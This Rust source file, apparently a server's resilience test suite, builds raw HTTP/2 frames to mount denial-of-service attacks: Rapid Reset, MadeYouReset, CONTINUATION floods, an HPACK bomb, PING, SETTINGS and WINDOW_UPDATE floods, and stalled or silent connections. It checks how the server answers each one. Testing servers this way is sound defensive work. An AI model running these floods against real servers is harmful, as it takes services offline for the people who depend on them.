//! Attacks over HTTP/2, in cleartext.

use super::wire::{Fate, connect, fate_of, say};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET /` and `POST /`, without the table.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'a'];
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x01, 1, b'a'];
const LARGE: &[u8] = b"/bytes/1000000000";
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const FLOOD: u32 = 20_000;
const SECOND: Duration = Duration::from_secs(1);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
fn data(stream: u32) -> Vec<u8> {
    frame(0, 0, stream, &[])
}
fn headers(stream: u32, block: &[u8], end: bool) -> Vec<u8> {
    frame(1, END_HEADERS | (u8::from(end) * END_STREAM), stream, block)
}
fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8u32.to_be_bytes())
}
fn window_update(stream: u32, bytes: u32) -> Vec<u8> {
    frame(8, 0, stream, &bytes.to_be_bytes())
}
/// SETTINGS_INITIAL_WINDOW_SIZE.
fn initial_window(bytes: u32) -> Vec<u8> {
    frame(4, 0, 0, &[&[0, 4][..], &bytes.to_be_bytes()].concat())
}
/// A request for an answer that is larger than anybody holds.
fn get_large(stream: u32) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, LARGE.len() as u8];
    block.extend(LARGE);
    block.extend([0x01, 1, b'a']);
    headers(stream, &block, true)
}
fn id(count: u32) -> u32 {
    1 + 2 * count
}

fn greet(address: SocketAddr, settings: &[u8]) -> TcpStream {
    let mut socket = connect(address);
    say(&mut socket, &[PREFACE, settings].concat());
    socket
}

/// Says what `next` gives until the server does not take it, then hears what it says to that.
fn flood(address: SocketAddr, first: &[u8], mut next: impl FnMut(u32) -> Vec<u8>) -> Vec<Fate> {
    let mut socket = greet(address, &frame(4, 0, 0, &[]));
    say(&mut socket, first);
    for batch in 0..FLOOD / 50 {
        let bytes: Vec<u8> = (0..50).flat_map(|at| next(batch * 50 + at)).collect();
        if !say(&mut socket, &bytes) {
            break;
        }
        // What comes is read, as a client that wants to go on does.
        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, Duration::ZERO) {
            return vec![fate];
        }
    }
    vec![fate_of(&mut socket, 20 * SECOND)]
}

pub(crate) fn rapid_reset(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |at| {
        [headers(id(at), GET, true), reset(id(at))].concat()
    })
}
pub(crate) fn rapid_reset_between(address: SocketAddr) -> Vec<Fate> {
    // The good ones need not wait for the connection's window.
    let first = [frame(4, 0, 0, &[]), window_update(0, 1 << 30)].concat();
    let mut socket = greet(address, &first);
    let pair = |at: u32| {
        let good = headers(id(2 * at), GET, true);
        let bad = headers(id(2 * at + 1), POST, false);
        [good, bad, reset(id(2 * at + 1))].concat()
    };
    for batch in 0..FLOOD / 10 {
        let bytes: Vec<u8> = (0..10).flat_map(|at| pair(batch * 10 + at)).collect();
        say(&mut socket, &bytes);
        // The good ones are answered before more is asked: else they are refused, which counts too.
        if let fate @ Fate::Goaway(_) = fate_of(&mut socket, Duration::ZERO) {
            return vec![fate];
        }
    }
    vec![fate_of(&mut socket, 20 * SECOND)]
}
pub(crate) fn made_you_reset(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |at| {
        [headers(id(at), POST, false), window_update(id(at), 0)].concat()
    })
}
pub(crate) fn continuations(address: SocketAddr) -> Vec<Fate> {
    let begun = frame(1, 0, 1, GET);
    flood(address, &begun, |_| frame(9, 0, 1, &[0x80; 0]))
}
pub(crate) fn bomb(address: SocketAddr) -> Vec<Fate> {
    // One entry of almost the whole table, and 4,000 references to it.
    let mut block = vec![0x40, 1, b'a', 0x7f, 0x80 + 0x51, 0x1d];
    block.extend([b'x'; 3920]);
    block.extend([0xbe; 4_000]);
    flood(address, &initial_window(0), |at| {
        headers(id(at), &block, true)
    })
}
pub(crate) fn pings(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |_| frame(6, 0, 0, &[1; 8]))
}
pub(crate) fn settings(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |_| frame(4, 0, 0, &[]))
}
pub(crate) fn empty_data(address: SocketAddr) -> Vec<Fate> {
    flood(address, &headers(1, POST, false), |_| data(1))
}
pub(crate) fn window_updates(address: SocketAddr) -> Vec<Fate> {
    flood(address, &headers(1, POST, false), |_| window_update(1, 1))
}
pub(crate) fn streams(address: SocketAddr) -> Vec<Fate> {
    flood(address, &[], |at| headers(id(at), POST, false))
}

/// Forty connections that ask for a hundred answers each; what becomes of them behind the stall time
/// of their streams.
fn hundred_answers(address: SocketAddr, first: &[u8]) -> Vec<TcpStream> {
    let asked: Vec<u8> = (0..100).flat_map(|at| get_large(id(at))).collect();
    let mut crowd: Vec<_> = (0..40).map(|_| greet(address, first)).collect();
    for socket in &mut crowd {
        say(socket, &frame(4, 1, 0, &[]));
        say(socket, &asked);
    }
    crowd
}
pub(crate) fn shut_windows(address: SocketAddr) -> Vec<Fate> {
    let mut crowd = hundred_answers(address, &initial_window(0));
    std::thread::sleep(35 * SECOND);
    crowd.iter_mut().map(|it| fate_of(it, SECOND)).collect()
}
pub(crate) fn unread(address: SocketAddr) -> Vec<Fate> {
    let first = [initial_window(1 << 30), window_update(0, 1 << 30)].concat();
    let crowd = hundred_answers(address, &first);
    std::thread::sleep(20 * SECOND);
    // Their end is due at 30 s; till then they live, which to read would change.
    crowd.iter().map(|_| Fate::Lives).collect()
}
pub(crate) fn silent(address: SocketAddr) -> Vec<Fate> {
    let mut crowd: Vec<_> = (0..200).map(|_| connect(address)).collect();
    for socket in &mut crowd {
        // Enough to be HTTP/2's.
        say(socket, PREFACE);
    }
    std::thread::sleep(12 * SECOND);
    crowd.iter_mut().map(|it| fate_of(it, SECOND)).collect()
}
